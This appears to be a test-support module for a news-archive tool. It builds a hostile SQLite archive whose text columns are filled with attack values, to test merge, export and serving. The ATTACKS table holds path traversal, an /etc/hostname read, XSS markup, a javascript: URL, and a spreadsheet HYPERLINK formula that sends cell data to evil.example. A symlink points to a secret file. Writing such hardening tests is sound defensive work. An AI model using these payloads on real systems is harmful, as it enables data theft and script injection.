"""Archives that an enemy has made for us to merge, export, serve, verify and withdraw from: one of ours, of which one
column, in all its rows, holds an attack. The columns follow from the schema: a new one is attacked by itself."""

from __future__ import annotations

import json
import shutil
import sqlite3
from contextlib import closing, suppress
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

from archive import Capture, PictureCapture, ingest, keep_picture, open_archive, start_run
from archive.model.digests import digest_of
from archive.model.paths import folder_beside
from archive.pictures import recognise
from archive.storage.picture_files import put_file
from tests.archive.invalid_archives import loosened, written
from tests.archive.test_picture_files import painted
from tests.support import NOON, PAPER, page

TOKEN = "TOKEN-OF-THE-EXPORTER"
"""What the exporter's own file holds, which nothing of ours may hold afterwards."""
MARKUP = "\"'><img src=x onerror=alert(1)><script>alert(2)</script></script>"
ATTACKS: dict[str, str] = {
    "traversal": "../../x",
    "absolute": "/etc/hostname",
    "secret": "{secret}",
    "markup": MARKUP,
    "javascript": "javascript:alert(document.domain)",
    "formula": '=HYPERLINK("http://evil.example/?"&A2)',
    "NUL": "a\0b",
    "a megabyte": "x" * 1_000_000,
}
"""{secret} stands for the path of the exporter's file."""
FROM_PICTURES = "../../../secret.png"
OWN, PRIVATE = "https://bao.example/anh/rieng.png", "https://bao.example/rieng.htm"


@dataclass(frozen=True)
class Attack:
    """A column, what it is made to hold, and whether that is dressed as what stood there: an address, a moment, a path,
    a text within JSON."""

    table: str
    column: str
    name: str
    dressed: bool = False

    def __str__(self) -> str:
        return f"{self.table}.{self.column}={self.name}{', dressed' if self.dressed else ''}"


@dataclass(frozen=True)
class World:
    """A folder that only holds what a test has put there: the enemy's archive, ours, and what lies round them."""

    top: Path

    @property
    def theirs(self) -> Path:
        """The enemy's archive, deep enough for ../../x to stay within the world."""
        return self.top / "a" / "b" / "their.db"

    @property
    def ours(self) -> Path:
        """Where theirs is merged into."""
        return self.top / "a" / "c" / "ours.db"

    @property
    def out(self) -> Path:
        """Where everything is exported to."""
        return self.top / "a" / "out"

    @property
    def secret(self) -> Path:
        """A file of the exporter's: a picture by its first bytes."""
        return self.top / "secret.png"

    def untouched(self) -> dict[str, bytes | str]:
        """Whatever lies outside the folders that commands were told of, by its name."""
        told = tuple(str(one) for one in (self.theirs, self.ours, self.out))
        return {
            str(one): str(one.readlink()) if one.is_symlink() else one.read_bytes()
            for one in sorted(self.top.rglob("*"))
            if not str(one).startswith(told) and (one.is_file() or one.is_symlink())
        }


def world(top: Path) -> World:
    """An archive of the enemy's with something in every kind of place, and files that are nobody's business."""
    made = World(top)
    for folder in (made.theirs.parent, made.ours.parent, made.out):
        folder.mkdir(parents=True)
    made.secret.write_bytes(b"\x89PNG\r\n\x1a\n" + TOKEN.encode())
    for folder in (top, top / "a", top / "a" / "b", top / "a" / "c"):
        (folder / "x").write_text("a file that nobody may change")
    written(made.theirs)
    _withdrawn_article(made.theirs)
    _linked_picture(made)
    loose = loosened(made.theirs, made.theirs.with_name("loose"))
    loose.replace(made.theirs)
    for left in made.theirs.parent.glob("their.db-*"):
        left.unlink()
    return made


def _withdrawn_article(path: Path) -> None:
    """Another article, with a picture of its own, which is withdrawn by itself."""
    figure = f'<figure><img src="{OWN}"><figcaption>Nhà riêng. Ảnh: Minh An</figcaption></figure></article>'
    picture = recognise(painted("red"))
    assert picture and picture.looks and picture.thumbnail_path
    with open_archive(path, create=True) as db:
        run = start_run(db, PAPER, {"luubao": "1"}, NOON + timedelta(days=3))
        body = page("Chuyện riêng", "Bà chủ nhà kể chuyện. " * 9, dated=NOON).replace("</article>", figure).encode()
        ingest(db, run, Capture(PRIVATE, PRIVATE, NOON + timedelta(days=3), 200, body=body, encoding="utf-8"))
        (image,) = db.execute("SELECT id FROM images WHERE url = ?", [OWN]).fetchone()
        put_file(folder_beside(path), picture.path, painted("red"))
        put_file(folder_beside(path), picture.thumbnail_path, picture.looks.thumbnail)
        keep_picture(db, run, PictureCapture(image, NOON + timedelta(days=3), OWN, 200, picture=picture), timedelta())


def _linked_picture(made: World) -> None:
    """The first article shows a picture whose file is a link to the exporter's: its row is true in every respect."""
    picture = replace(recognise(painted("blue")) or _no_picture(), digest=digest_of(made.secret.read_bytes()))
    with open_archive(made.theirs, create=True) as db:
        run = start_run(db, PAPER, {"luubao": "2"}, NOON + timedelta(days=4))
        (image,) = db.execute("SELECT image_id FROM version_images ORDER BY version_id LIMIT 1").fetchone()
        url = db.execute("SELECT url FROM images WHERE id = ?", [image]).fetchone()[0]
        keep_picture(db, run, PictureCapture(image, NOON + timedelta(days=4), url, 200, picture=picture), timedelta())
    place = folder_beside(made.theirs) / picture.path
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(made.secret)


def _no_picture() -> Any:
    raise AssertionError("what was painted is a picture")


def columns(made: World, table: str) -> list[str]:
    """Every column of a table that holds text."""
    with closing(sqlite3.connect(made.theirs)) as db:
        return [name for _, name, kind, *_ in db.execute(f"PRAGMA table_info({table})").fetchall() if kind == "TEXT"]


def attacked(made: World, top: Path, attack: Attack) -> World | None:
    """The world, with an archive in which the attack is made; None where it is none (nothing stands there that it could
    be dressed as), or SQLite would not take it."""
    shutil.copytree(made.top, top, symlinks=True)
    here, known = World(top), str(made.secret)
    link = next(one for one in folder_beside(here.theirs).rglob("*") if one.is_symlink())
    link.unlink()
    link.symlink_to(here.secret)
    value = ATTACKS[attack.name].format(secret=here.secret) if attack.name == "secret" else ATTACKS[attack.name]
    assert known != str(here.secret)
    with closing(sqlite3.connect(here.theirs)) as db:
        db.execute("PRAGMA ignore_check_constraints = ON")
        _filled(db, attack.table)
        rows = db.execute(f"SELECT DISTINCT {attack.column} FROM {attack.table}").fetchall()
        changed = 0
        for (present,) in rows:
            new = dressed(present, value) if attack.dressed else value
            if new is None:
                continue
            with suppress(sqlite3.IntegrityError):  # a key that all rows would have: one does
                changed += db.execute(
                    f"UPDATE {attack.table} SET {attack.column} = ? WHERE {attack.column} IS ?", [new, present]
                ).rowcount
        db.commit()
    return here if changed else None


def _filled(db: sqlite3.Connection, table: str) -> None:
    """A row in a table that has none."""
    if db.execute(f"SELECT 1 FROM {table}").fetchone():
        return
    sane = {"TEXT": "x", "INTEGER": 1, "REAL": 1.0, "BLOB": b"x"}
    kinds = [kind for _, _, kind, *_ in db.execute(f"PRAGMA table_info({table})").fetchall()]
    marks = ", ".join("?" * len(kinds))
    db.execute(f"INSERT INTO {table} VALUES ({marks})", [sane[kind] for kind in kinds])


def dressed(present: object, value: str) -> str | None:
    """The attack as what stands there; None where that is plain text or nothing."""
    if not isinstance(present, str):
        return None
    if present.startswith(("https://", "http://")):
        return f"https://bao.example/{value}"
    if present.startswith("sha256:"):
        return f"sha256:{value}"
    if present.startswith(("sha256/", "thumbnails/", "withheld/")):
        return f"{present.partition('/')[0]}/../{value}"
    if present[:1] in ("[", "{"):
        return json.dumps(_in_json(json.loads(present), value), ensure_ascii=False)
    return f"{present[:10]}<{present[11:]}" if len(present) >= 20 and present[4:5] == present[7:8] == "-" else None


def _in_json(found: Any, value: str) -> Any:
    if isinstance(found, dict):
        return {name: _in_json(one, value) for name, one in found.items()}
    if isinstance(found, list):
        return [_in_json(one, value) for one in found]
    return value if isinstance(found, str) else found
